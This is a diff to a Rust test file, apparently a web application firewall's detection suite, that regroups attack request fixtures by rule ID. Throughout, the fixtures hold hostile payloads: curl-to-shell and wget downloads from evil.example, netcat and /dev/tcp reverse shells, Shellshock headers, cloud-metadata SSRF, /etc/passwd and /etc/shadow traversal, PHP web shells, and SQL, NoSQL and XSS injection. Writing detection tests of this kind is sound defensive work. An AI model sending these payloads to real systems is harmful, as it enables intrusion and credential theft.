@@ -573,7 +573,6 @@ fn attacks() -> Vec<(i64, Req)> {
         arg("u", "http://2852039166/latest/"),
         arg("u", "http://0xA9FEA9FE/latest/"),
         arg("u", "http://[::ffff:a9fe:a9fe]/"),
-        Req::get("/").header("X-Forwarded-Host", "169.254.169.254"),
         form(&[("webhook", "http://100.100.100.200/latest/meta-data/")]),
     ]);
 
@@ -615,7 +614,7 @@ fn attacks() -> Vec<(i64, Req)> {
         arg("c", "whoami"),
     ]);
     add(4230130, vec![
-        Req::get("/cgi-bin/status").header("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
+        Req::get("/cgi-bin/status").header("User-Agent", "() { :; }; echo vulnerable"),
         Req::get("/cgi-bin/status").header("Referer", "() { _; } >_[$($())] { id; }"),
         arg("x", "() { :;}; echo vulnerable"),
     ]);
@@ -1006,26 +1005,20 @@ fn attacks_in_headers_and_path() -> Vec<(i64, Req)> {
     add(4215100, vec![seg("42 UNION SELECT username, password_hash FROM accounts--"), seg64("' OR 1=1--"), Req::get("/a/b/c/1%27%20OR%20%271%27%3D%271/d")]);
     add(4215110, vec![seg64("<script>alert(1)</script>")]);
 
-    // 20-lfi
-    add(4220100, vec![
+    // 20-lfi: headers and path segments in phase 1, arguments in phase 2.
+    add(4220110, vec![
         hdr("X-Search-Filter", "../../../../etc/passwd"),
         ua("..\\..\\..\\windows\\win.ini"),
         hdr64("....//....//....//etc/hosts"),
         hdr("X-Template", "%252e%252e%252f%252e%252e%252fetc%252fhosts"),
+        seg64("../../../../etc/passwd"),
+        Req::get("/files/..%252f..%252fsecret/view"),
     ]);
-    add(4220110, vec![seg64("../../../../etc/passwd"), Req::get("/files/..%252f..%252fsecret/view")]);
     add(4220200, vec![seg64("/etc/passwd%00.png"), Req::get("/files/%252Fetc%252Fpasswd/view"), seg64("/proc/self/environ")]);
-    add(4220210, vec![
-        hdr("X-Search-Filter", "/etc/passwd%00.png"),
-        ua("/etc/passwd%00.png"),
-        hdr64("/var/www/html/.htaccess"),
-        raw("/page?f=%252Fetc%252Fpasswd%252500.png"),
-        arg("f", &b64(b"/etc/passwd%00.png", false)),
-        cookie("%2Fetc%2Fshadow"),
-    ]);
+    add(4220210, vec![raw("/page?f=%252Fetc%252Fpasswd%252500.png"), arg("f", &b64(b"/etc/passwd%00.png", false)), cookie("%2Fetc%2Fshadow")]);
+    add(4220240, vec![hdr("X-Search-Filter", "/etc/passwd%00.png"), ua("/etc/passwd%00.png"), hdr64("/var/www/html/.htaccess"), hdr("X-Template", "C:\\Windows\\win.ini")]);
 
     // 25-rfi-ssrf
-    add(4225110, vec![seg("http://169.254.169.254/latest/meta-data/"), seg64("http://metadata.google.internal/computeMetadata/v1/")]);
     add(4225120, vec![
         arg("url", "gopher://127.0.0.1:6379/_FLUSHALL"),
         arg("url", "dict://127.0.0.1:11211/stat"),
@@ -1042,40 +1035,40 @@ fn attacks_in_headers_and_path() -> Vec<(i64, Req)> {
         arg("url", "file://localhost/etc/shadow"),
         arg("url", "file:///c:/windows/win.ini"),
         form(&[("webhook", "http://[::]:6379/")]),
+        cookie("http://0x7f000001/"),
+        arg("u", &b64(b"file:///etc/passwd", true)),
+    ]);
+    add(4225130, vec![
+        Req::get("/").header("X-Forwarded-Host", "169.254.169.254"),
+        seg("http://169.254.169.254/latest/meta-data/"),
+        seg64("http://metadata.google.internal/computeMetadata/v1/"),
+        ua("http://100.100.100.200/latest/meta-data/"),
+    ]);
+    add(4225140, vec![
         hdr("X-Callback-Url", "http://[::1]/admin"),
         ua("gopher://127.0.0.1:25/_HELO"),
-        cookie("http://0x7f000001/"),
         seg64("http://0x7f000001/admin"),
         Req::get("/proxy/http://%5B::1%5D:8500/v1/agent/self"),
-        arg("u", &b64(b"file:///etc/passwd", true)),
+        hdr64("file:///etc/passwd"),
     ]);
 
     // 30-rce
-    add(4230100, vec![
-        hdr("X-Search-Filter", "127.0.0.1; cat /etc/passwd"),
+    add(4230120, vec![Req::get("/files/x%20%26%20cmd%20/c%20whoami/view"), seg("x|powershell -enc SQBFAFgA")]);
+    add(4230140, vec![
+        hdr("X-Search-Filter", "127.0.0.1; cat /tmp/notes.txt"),
         ua("x && curl http://evil.example/s.sh | sh"),
         hdr64("$(curl http://evil.example/x)"),
         seg("127.0.0.1; cat /tmp/notes.txt"),
         seg64("`uname -a`"),
         Req::get("/files/x%252520%25257C%252520id/view"),
-    ]);
-    add(4230110, vec![
         ua("foo | nc -e /bin/sh 10.0.0.7 4444"),
         hdr("X-Cmd", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"),
         seg64("a;wget${IFS}http://evil.example/x -O /tmp/x"),
         seg("cat${IFS}/tmp/x"),
+        hdr("Referer", "https://shop.example.com/ping?host=8.8.8.8%3B%20wget%20http%3A%2F%2Fevil.example%2Fx"),
     ]);
-    add(4230120, vec![Req::get("/files/x%20%26%20cmd%20/c%20whoami/view"), seg("x|powershell -enc SQBFAFgA")]);
 
     // 35-php
-    add(4235100, vec![hdr("X-Note", "<?php system($_GET['c']); ?>"), seg64("<?php system($_GET['c']); ?>"), seg("<?php phpinfo(); ?>")]);
-    add(4235130, vec![
-        hdr("X-Include", "php://filter/read=convert.base64-encode/resource=config.php"),
-        seg("php://filter/resource=index.php"),
-        seg64("expect://id"),
-        ua("phar://uploads/avatar.jpg/x"),
-    ]);
-    add(4235140, vec![hdr("X-State", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}"), seg64("O:4:\"Evil\":0:{}")]);
     add(4235160, vec![
         arg("x", "eval(base64_decode('ZWNobyAxOw=='));"),
         arg("x", "phpinfo();"),
@@ -1085,24 +1078,28 @@ fn attacks_in_headers_and_path() -> Vec<(i64, Req)> {
         arg("x", "system($_GET['c'])"),
         arg("x", "@eval(@gzinflate(base64_decode($x)))"),
         arg("x", "include($_REQUEST['page'])"),
+        cookie("passthru($_POST[1])"),
+        json(r#"{"q":"assert(base64_decode('cGhwaW5mbygpOw=='))"}"#),
+    ]);
+    add(4235170, vec![
+        hdr("X-Note", "<?php system($_GET['c']); ?>"),
+        seg64("<?php system($_GET['c']); ?>"),
+        seg("<?php phpinfo(); ?>"),
+        hdr("X-Include", "php://filter/read=convert.base64-encode/resource=config.php"),
+        seg("php://filter/resource=index.php"),
+        seg64("expect://id"),
+        ua("phar://uploads/avatar.jpg/x"),
+        hdr("X-State", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}"),
+        seg64("O:4:\"Evil\":0:{}"),
         ua("phpinfo();"),
         hdr64("eval(str_rot13('riny'));"),
         seg("phpinfo();"),
-        cookie("passthru($_POST[1])"),
-        json(r#"{"q":"assert(base64_decode('cGhwaW5mbygpOw=='))"}"#),
     ]);
 
     // 40-sqli: UNION SELECT cut into segments by the slashes of /**/.
     add(4240110, vec![seg("1 union/**/select 1,2")]);
 
     // 45-nosql
-    add(4245100, vec![
-        hdr("X-Search-Filter", "{\"$ne\": null}"),
-        ua("{\"$gt\": \"\"}"),
-        seg("{\"$where\": \"this.password.length > 0\"}"),
-        seg64("{\"$regex\": \"^adm\"}"),
-        hdr64("{\"$nin\": []}"),
-    ]);
     add(4245110, vec![
         arg("q", "'; return db.users.find(); var x='"),
         arg("u", "x'; sleep(5000); '"),
@@ -1111,26 +1108,29 @@ fn attacks_in_headers_and_path() -> Vec<(i64, Req)> {
         arg("u", "'; return this.password.match(/^a/); var b='"),
         form(&[("name", "x\"; const y = process.env; \"")]),
         json(r#"{"user":"a\"; return true; var b=\""}"#),
-        hdr("X-Search-Filter", "'; return db.users.find(); var x='"),
-        ua("'; return true; var x='"),
-        seg64("'; return db.users.find(); var x='"),
         cookie("%27%3B%20return%20true%3B%20var%20a%3D%27"),
         arg("q", &b64(b"'; return db.users.find(); var x='", false)),
     ]);
-
-    // 50-xss: the decoding layer, headers and the path.
-    add(4250110, vec![
-        // base64 with a + (no % in the value: urlDecodeNested leaves it).
-        arg("q", &b64(b"<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>", false)),
-        raw("/page?x=%25253Cscript%25253Ealert(1)"),
+    add(4245120, vec![
+        hdr("X-Search-Filter", "{\"$ne\": null}"),
+        ua("{\"$gt\": \"\"}"),
+        seg("{\"$where\": \"this.password.length > 0\"}"),
+        seg64("{\"$regex\": \"^adm\"}"),
+        hdr64("{\"$nin\": []}"),
+        hdr("X-Search-Filter", "'; return db.users.find(); var x='"),
+        ua("'; return true; var x='"),
+        seg64("'; return db.users.find(); var x='"),
     ]);
-    add(4250120, vec![arg("q", &b64(b"\" onfocus=\"alert(1)\" autofocus=\"", false)), raw("/search?q=%2522%2520onmouseover%253D%2522alert(1)")]);
-    add(4250130, vec![
+
+    // 50-xss: script URLs (a shape libinjection leaves alone).
+    add(4250120, vec![raw("/search?q=%2522%2520onmouseover%253D%2522alert(1)")]);
+    add(4250130, vec![raw("/page?next=javascript%253Aalert(1)"), arg("next", &b64(b"javascript:alert(document.cookie)", false))]);
+    add(4250140, vec![
         hdr("X-Return-To", "javascript:alert(document.domain)"),
         ua("javascript:alert(1)"),
         seg("javascript:alert(String.fromCharCode(88,83,83))"),
-        raw("/page?next=javascript%253Aalert(1)"),
         hdr64("javascript:alert(1)"),
+        hdr("X-Preview", "data:text/html,<b>x</b>"),
     ]);
 
     // 60-java: base64 lookups in query arguments, cookies and path segments.
